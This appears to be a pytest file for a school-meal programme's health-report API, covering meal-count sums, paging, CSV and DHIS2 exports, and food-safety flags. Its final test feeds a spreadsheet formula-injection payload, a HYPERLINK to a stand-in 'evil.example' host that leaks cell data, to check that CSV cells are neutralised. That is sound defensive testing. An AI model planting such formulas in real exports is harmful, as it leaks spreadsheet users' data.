"""Health reports: meal counts summed at each level, food-safety checks, CSV and DHIS2."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.builders.menus import make_safety_check, put_counts
from tests.builders.reports import (
    HEALTH,
    Programme,
    count,
    csv_text,
    get_csv,
    get_dhis2,
    get_rows,
    make_programme,
)

P1, P2 = "2026-03-02", "2026-03-03"
COUNTS = ("planned", "prepared", "served", "returned")


@pytest.fixture
def world(client: TestClient, admin: dict[str, str]) -> Programme:
    """Counts of two past days; C (East Java) reports too, outside every West Java office."""
    w = make_programme(client, admin)
    put_counts(
        client,
        admin,
        w.a1["id"],
        P1,
        [
            count(w.sa1, "7-9", 100, 95, 90, 5),
            count(w.sa1, "10-12-m", 40, 40, 38),
            count(w.sa2, "7-9", 60),
        ],
    )
    put_counts(client, admin, w.a2["id"], P1, [count(w.sa3, "7-9", 20, 20, 20, 0)])
    put_counts(client, admin, w.b["id"], P1, [count(w.sb, "7-9", 50, 50, 45, 2)])
    put_counts(client, admin, w.c["id"], P1, [count(w.sc, "7-9", 10, 10, 10, 0)])
    put_counts(client, admin, w.a1["id"], P2, [count(w.sa1, "7-9", 100, 100, 99)])
    return w


def _counts(*values: int | None) -> dict[str, int | None]:
    return dict(zip(COUNTS, values, strict=True))


def test_meal_counts_by_kitchen(client: TestClient, world: Programme) -> None:
    rows = get_rows(client, f"{HEALTH}/meal-counts", world.health_32, **{"from": P1, "to": P2})
    a1, a2, b = world.a1, world.a2, world.b

    def row(day: str, k: dict[str, Any], group: str, *values: int | None) -> dict[str, Any]:
        return {
            "service_date": day,
            "region_code": k["region_code"],
            "kitchen_id": k["id"],
            "kitchen_code": k["code"],
            "target_group": group,
            **_counts(*values),
        }

    assert rows == [
        row(P1, b, "7-9", 50, 50, 45, 2),
        row(P1, a1, "10-12-m", 40, 40, 38, None),
        # 100 + 60 planned; SA2's unknown prepared/served/returned are left out of the sums.
        row(P1, a1, "7-9", 160, 95, 90, 5),
        row(P1, a2, "7-9", 20, 20, 20, 0),
        row(P2, a1, "7-9", 100, 100, 99, None),
    ]


def test_meal_counts_by_school(client: TestClient, world: Programme) -> None:
    rows = get_rows(
        client,
        f"{HEALTH}/meal-counts",
        world.health_3273,
        group_by="school",
        **{"from": P1, "to": P1},
    )

    def row(k: dict[str, Any], s: dict[str, Any], group: str, *values: int | None) -> dict:
        return {
            "service_date": P1,
            "region_code": "32.73.01",
            "kitchen_id": k["id"],
            "kitchen_code": k["code"],
            "school_id": s["id"],
            "npsn": s["npsn"],
            "target_group": group,
            **_counts(*values),
        }

    w = world
    assert rows == [
        row(w.a1, w.sa1, "10-12-m", 40, 40, 38, None),
        row(w.a1, w.sa1, "7-9", 100, 95, 90, 5),
        row(w.a1, w.sa2, "7-9", 60, None, None, None),
        row(w.a2, w.sa3, "7-9", 20, 20, 20, 0),
    ]


def test_meal_counts_by_region_sum_the_kitchens_of_a_region(
    client: TestClient, world: Programme
) -> None:
    rows = get_rows(
        client,
        f"{HEALTH}/meal-counts",
        world.admin,
        group_by="region",
        **{"from": P1, "to": P2},
    )

    def row(day: str, region: str, group: str, *values: int | None) -> dict[str, Any]:
        keys = {"service_date": day, "region_code": region, "target_group": group}
        return keys | _counts(*values)

    assert rows == [
        row(P1, "32.04.05", "7-9", 50, 50, 45, 2),
        # A1 and A2 (both 32.73.01): 100+60+20 planned, 95+20 prepared, 90+20 served, 5+0.
        row(P1, "32.73.01", "10-12-m", 40, 40, 38, None),
        row(P1, "32.73.01", "7-9", 180, 115, 110, 5),
        row(P1, "35.78.02", "7-9", 10, 10, 10, 0),  # admin is national
        row(P2, "32.73.01", "7-9", 100, 100, 99, None),
    ]


def test_meal_counts_sum_the_same_at_every_level(client: TestClient, world: Programme) -> None:
    params = {"from": P1, "to": P2, "region_code": "32"}
    levels = {
        level: get_rows(client, f"{HEALTH}/meal-counts", world.admin, group_by=level, **params)
        for level in ("school", "kitchen", "region")
    }
    # Hand totals of West Java: planned 100+40+60+20+50+100, served 90+38+20+45+99.
    for rows in levels.values():
        assert sum(r["planned"] for r in rows) == 370
        assert sum(r["served"] or 0 for r in rows) == 292


def test_meal_counts_paging_follows_the_order(client: TestClient, world: Programme) -> None:
    params = {"from": P1, "to": P2, "group_by": "school"}
    whole = get_rows(client, f"{HEALTH}/meal-counts", world.admin, **params)
    assert len(whole) == 7
    assert get_rows(client, f"{HEALTH}/meal-counts", world.admin, limit=2, **params) == whole
    assert get_rows(client, f"{HEALTH}/meal-counts", world.admin, limit=1, **params) == whole


def test_meal_counts_updated_since_returns_re_reported_days(
    client: TestClient, world: Programme
) -> None:
    params = {"from": P1, "to": P2, "region_code": "32.73"}
    before = datetime.now(UTC)
    assert (
        get_rows(
            client, f"{HEALTH}/meal-counts", world.admin, updated_since=before.isoformat(), **params
        )
        == []
    )
    put_counts(client, world.admin, world.a2["id"], P1, [count(world.sa3, "7-9", 21, 21, 19, 1)])
    rows = get_rows(
        client,
        f"{HEALTH}/meal-counts",
        world.admin,
        group_by="region",
        updated_since=before.isoformat(),
        **params,
    )
    # The region sum holds A2's fresh count, so it comes back whole (with A1's part).
    assert rows == [
        {"service_date": P1, "region_code": "32.73.01", "target_group": "7-9"}
        | _counts(181, 116, 109, 6)
    ]
    earlier = (before - timedelta(days=1)).isoformat()
    every = get_rows(client, f"{HEALTH}/meal-counts", world.admin, updated_since=earlier, **params)
    assert len(every) == 4


@pytest.mark.parametrize("group_by", ["school", "kitchen", "region"])
def test_meal_counts_csv_matches_json(client: TestClient, world: Programme, group_by: str) -> None:
    params = {"from": P1, "to": P2, "group_by": group_by}
    rows = get_rows(client, f"{HEALTH}/meal-counts", world.health_32, **params)
    lines = get_csv(client, f"{HEALTH}/meal-counts", world.health_32, **params)
    assert lines[0] == list(rows[0])
    assert lines[1:] == [[csv_text(v) for v in r.values()] for r in rows]


@pytest.mark.parametrize(
    ("group_by", "org_unit"),
    [("school", "npsn"), ("kitchen", "kitchen_code"), ("region", "region_code")],
)
def test_meal_counts_dhis2_matches_json(
    client: TestClient, world: Programme, group_by: str, org_unit: str
) -> None:
    params = {"from": P1, "to": P2, "group_by": group_by}
    rows = get_rows(client, f"{HEALTH}/meal-counts", world.health_32, **params)
    values = get_dhis2(client, f"{HEALTH}/meal-counts", world.health_32, **params)
    elements = {
        "planned": "MBG_PLANNED",
        "prepared": "MBG_PREPARED",
        "served": "MBG_SERVED",
        "returned": "MBG_RETURNED",
    }
    expected = [
        {
            "dataElement": elements[field],
            "period": r["service_date"].replace("-", ""),
            "orgUnit": r[org_unit],
            "categoryOptionCombo": r["target_group"],
            "value": str(r[field]),
        }
        for r in rows
        for field in COUNTS
        if r[field] is not None  # unknown counts are left out, never sent as 0
    ]
    assert values == expected
    org = {"school": "30000001", "kitchen": "K-3273-1", "region": "32.73.01"}[group_by]
    served = {
        "dataElement": "MBG_SERVED",
        "period": "20260302",
        "orgUnit": org,
        "categoryOptionCombo": "10-12-m",
        "value": "38",
    }
    assert served in values


def test_food_safety_rows_carry_kitchen_code_region_and_flags(
    client: TestClient, world: Programme
) -> None:
    w = world
    late = make_safety_check(
        client,
        w.admin,
        w.a1["id"],
        service_date=P1,
        cooked_at="2026-03-02T01:00:00+07:00",
        dispatched_at="2026-03-02T06:00:00+07:00",
        sample_retained=False,
        core_temp_c=70,
        notes="Termometer baru",
    )
    early = make_safety_check(
        client, w.admin, w.a1["id"], service_date=P1, cooked_at="2026-03-02T00:30:00+07:00"
    )
    other = make_safety_check(client, w.admin, w.a2["id"], service_date=P2)
    make_safety_check(client, w.admin, w.b["id"], service_date=P1)  # 32.04: outside 32.73
    make_safety_check(client, w.admin, w.a1["id"], service_date="2026-03-04")  # after `to`

    rows = get_rows(client, f"{HEALTH}/food-safety", w.health_3273, **{"from": P1, "to": P2})

    def row(check: dict[str, Any], k: dict[str, Any]) -> dict[str, Any]:
        return {**check, "kitchen_code": k["code"], "region_code": k["region_code"]}

    # Date, region, kitchen code, then cooking time.
    assert [r["id"] for r in rows] == [early["id"], late["id"], other["id"]]
    assert rows[1] == row(late, w.a1)
    assert set(rows[1]["flags"]) == {
        "no_sample_retained",
        "core_temp_below_75c",
        "dispatch_over_4h",
    }
    assert rows[1]["cooked_at"] == "2026-03-01T18:00:00Z"
    assert rows[2] == row(other, w.a2)

    lines = get_csv(client, f"{HEALTH}/food-safety", w.health_3273, **{"from": P1, "to": P2})
    assert lines[0] == list(rows[0])
    assert lines[1:] == [[csv_text(v) for v in r.values()] for r in rows]


def test_food_safety_updated_since(client: TestClient, world: Programme) -> None:
    make_safety_check(client, world.admin, world.a1["id"], service_date=P1)
    since = datetime.now(UTC)
    fresh = make_safety_check(client, world.admin, world.a1["id"], service_date=P2)
    rows = get_rows(
        client,
        f"{HEALTH}/food-safety",
        world.admin,
        updated_since=since.isoformat(),
        **{"from": P1, "to": P2},
    )
    assert [r["id"] for r in rows] == [fresh["id"]]


def test_food_safety_has_no_dhis2_format(client: TestClient, world: Programme) -> None:
    resp = client.get(
        f"{HEALTH}/food-safety",
        params={"from": P1, "to": P2, "format": "dhis2"},
        headers=world.admin,
    )
    assert resp.status_code == 422


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1, "Klik")',
        "+62 812 555",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTab di depan",
        "\rCR di depan",
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    client: TestClient, world: Programme, note: str
) -> None:
    check = make_safety_check(
        client, world.admin, world.a1["id"], service_date=P1, notes=note, core_temp_c=-5.5
    )
    params = {"from": P1, "to": P1}
    rows = get_rows(client, f"{HEALTH}/food-safety", world.admin, **params)
    assert [(r["id"], r["notes"]) for r in rows] == [(check["id"], note)]  # JSON as stored
    lines = get_csv(client, f"{HEALTH}/food-safety", world.admin, **params)
    row = dict(zip(lines[0], lines[1], strict=True))
    assert row["notes"] == "'" + note
    # A negative number is a number, not a formula: numeric cells stay as they are.
    assert row["core_temp_c"] == "-5.5"
    assert row["kitchen_code"] == world.a1["code"]
